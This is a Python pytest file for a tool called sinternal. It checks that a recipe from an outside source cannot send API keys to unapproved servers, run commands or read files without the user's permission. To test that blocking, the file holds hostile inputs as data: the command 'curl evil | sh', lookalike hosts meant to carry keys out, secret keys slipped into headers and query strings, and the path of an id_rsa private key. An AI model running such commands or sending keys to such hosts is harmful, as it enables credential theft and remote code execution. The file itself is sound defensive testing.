"""What a recipe of a stranger reaches for is shown before the first call, and takes a word of the user's."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from sinternal.errors import RecipeError
from sinternal.settings.launch import Launch
from sinternal.settings.recipe import load_recipe
from sinternal.study.plan import make_plan
from sinternal.study.reach import Reach, check_allowed, find_reach
from sinternal.study.run import run
from tests.commands import in_process
from tests.servers import serve

STRANGE = "https://collector.example/v1"


@pytest.fixture(autouse=True)
def keys(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    for name in ("SINTERNAL_ALLOW", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    for name in ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "GROQ_API_KEY"):
        monkeypatch.setenv(name, f"a value of {name}")
    return


def write(folder: Path, **engine: object) -> Path:
    """A recipe whose judge asks a server."""
    asked = {"name": "openai", "model": "judge", "options": {"base_url": STRANGE, **engine}}
    judges = [{"name": "oracle"}, {"name": "gpt-oss-safeguard", "options": {"engine": asked}}]
    file = folder / "theirs.yaml"
    file.write_text(yaml.safe_dump({"extends": "quickstart", "arms": [{"name": "base"}], "judges": judges}))
    return file


def reach_of(file: Path, *overrides: str) -> Reach:
    recipe = load_recipe(str(file), overrides)
    return find_reach(make_plan(recipe), recipe.launch)


@pytest.mark.parametrize(
    "engine",
    [
        {"api_key_env": "AWS_SECRET_ACCESS_KEY"},
        {"api_key_env": "AWS_SECRET_ACCESS_KEY", "base_url": "https://api.openai.com/v1"},
        {"api_key_env": "OPENAI_API_KEY"},
        {"api_key_env": "OPENAI_API_KEY", "base_url": "http://api.openai.com/v1"},
        {"api_key_env": "OPENAI_API_KEY", "base_url": "https://api.openai.com.evil.example/v1"},
        {"api_key_env": "OPENAI_API_KEY", "base_url": "https://api.openai.com@evil.example/v1"},
        {"api_key_env": "OPENAI_API_KEY", "base_url": "https://api.openai.com:444/v1"},
        {"headers": {"x-harmless": "AWS_SECRET_ACCESS_KEY"}},
        {"headers": {"authorization": "Bearer ${GROQ_API_KEY}"}},
        {"query": {"q": "x$AWS_SECRET_ACCESS_KEY"}},
    ],
)
def test_a_key_goes_to_no_server_that_a_recipe_names_without_a_word_of_the_user(
    engine: dict[str, object], tmp_path: Path
) -> None:
    if "@evil" in str(engine):
        engine = {**engine, "headers": {"x-key": "$OPENAI_API_KEY"}}
    with pytest.raises(RecipeError, match=r"export SINTERNAL_ALLOW=.*@.*, or give it on the command line"):
        check_allowed(reach_of(write(tmp_path, **engine)))


@pytest.mark.parametrize(
    ("engine", "allowed"),
    [
        ({"base_url": "https://api.openai.com/v1"}, ""),
        ({"base_url": "https://api.groq.com/openai/v1", "api_key_env": "GROQ_API_KEY"}, ""),
        ({"base_url": "http://127.0.0.1:8000/v1", "api_key_env": "GROQ_API_KEY"}, ""),
        ({"base_url": STRANGE, "api_key_env": "NOT_SET"}, ""),
        ({"base_url": STRANGE}, "x; OPENAI_API_KEY@collector.example ;"),
        ({"base_url": "http://10.0.0.5:8000/v1"}, "OPENAI_API_KEY@http://10.0.0.5:8000"),
    ],
)
def test_a_key_goes_where_it_belongs_or_is_allowed_to_go(
    engine: dict[str, object], allowed: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SINTERNAL_ALLOW", allowed)
    check_allowed(reach_of(write(tmp_path, **engine)))


def test_what_is_allowed_with_encryption_is_not_allowed_without(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SINTERNAL_ALLOW", "OPENAI_API_KEY@10.0.0.5:8000")
    with pytest.raises(RecipeError, match=r"OPENAI_API_KEY@http://10\.0\.0\.5:8000"):
        check_allowed(reach_of(write(tmp_path, base_url="http://10.0.0.5:8000/v1")))


def test_an_address_that_the_user_gives_himself_needs_no_other_word(tmp_path: Path) -> None:
    typed = f"judges.1.options.engine.options.base_url={STRANGE}"
    check_allowed(reach_of(write(tmp_path), typed), [typed])
    with pytest.raises(RecipeError, match=r"collector\.example"):
        check_allowed(reach_of(write(tmp_path), "seeds=[0]"), ["seeds=[0]"])


def test_commands_and_files_of_code_that_a_recipe_names_take_a_word(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    launch = Launch(processes=2, machines=2, address="a:1", start=("sh", "-c", "curl evil | sh"))
    file = write(tmp_path, api_key_env="NOT_SET")
    content = yaml.safe_load(file.read_text())
    content["capability"] = ["tasks.py@evil", "folder", "inspect_evals/gpqa_diamond", "sinternal/mathematics", "a/b"]
    file.write_text(yaml.safe_dump(content))
    reach = find_reach(make_plan(load_recipe(str(file))), launch)
    unknown = set() if "inspect_evals/gpqa_diamond" not in reach.commands else {"inspect_evals/gpqa_diamond"}
    assert set(reach.commands) - unknown == {"tasks.py@evil", "folder", "a/b", "sh -c 'curl evil | sh'"}
    with pytest.raises(RecipeError, match=r"runs tasks\.py@evil"):
        check_allowed(reach)
    monkeypatch.setenv("SINTERNAL_ALLOW", "; ".join(f"run:{command}" for command in reach.commands))
    check_allowed(reach)


def test_nothing_is_sent_before_the_user_has_said_so_and_what_is_reached_is_told_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "elsewhere" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("PRIVATE")
    folder = tmp_path / "work"
    folder.mkdir()
    with serve() as server:
        monkeypatch.setattr("sinternal.engines.openai_options.is_loopback", lambda _host: False)
        file = write(folder, base_url=server.url)
        content = yaml.safe_load(file.read_text())
        content["judges"][1]["options"]["policy"] = str(secret)
        file.write_text(yaml.safe_dump(content))
        done = in_process("run", str(file), "--out", "run", cwd=folder)
        planned = in_process("plan", str(file), "--json", cwd=folder)
        assert (server.calls, server.paths) == ([], [])
        with pytest.raises(RecipeError, match="sends OPENAI_API_KEY"):
            run(load_recipe(str(file)), out=folder / "again")
    told = done.stderr.splitlines()
    address = server.url.removesuffix("/v1")
    assert told[:2] == [
        f"note: this run asks {address} with OPENAI_API_KEY, unencrypted",
        f"note: this run reads {secret}",
    ]
    assert told[-1].startswith("error: the recipe sends OPENAI_API_KEY to")
    content = json.loads(planned.stdout)
    assert content["reach"]["servers"] == [{"address": address, "keys": ["OPENAI_API_KEY"]}]
    assert content["reach"]["files"] == [str(secret)]
    assert any(note.startswith("a run would stop here: the recipe sends") for note in content["notes"])


def test_the_server_that_writes_rollouts_is_told(tmp_path: Path) -> None:
    arms = "arms=[{name: base}, {name: base+grpo, train_on: rewards}]"
    grpo = "grpo={steps: 1, rollouts: {engine: vllm-server, vllm_server: 'http://rollouts.example:8000'}}"
    reach = reach_of(write(tmp_path, api_key_env="OPENAI_API_KEY"), arms, grpo)
    assert "asks http://rollouts.example:8000 without a key" in reach.beyond().in_words()
    usual = reach_of(write(tmp_path), arms, "grpo={steps: 1, rollouts: {engine: vllm-server}}")
    assert "asks http://0.0.0.0:8000 without a key" in {*usual.in_words()} - {*usual.beyond().in_words()}


def test_a_recipe_that_extends_a_file_outside_of_its_folder_says_so(tmp_path: Path) -> None:
    (tmp_path / "a" / "inside").mkdir(parents=True)
    (tmp_path / "base.yaml").write_text("extends: quickstart\n")
    (tmp_path / "a" / "inside" / "beside.yaml").write_text("extends: ../../base.yaml\n")
    (tmp_path / "a" / "own.yaml").write_text("extends: inside/beside.yaml\n")
    done = in_process("plan", "a/own.yaml", cwd=tmp_path)
    (note,) = [line for line in done.stdout.splitlines() if "extends" in line]
    assert note == f"note: this recipe extends {tmp_path / 'base.yaml'}, which lies outside of its folder"
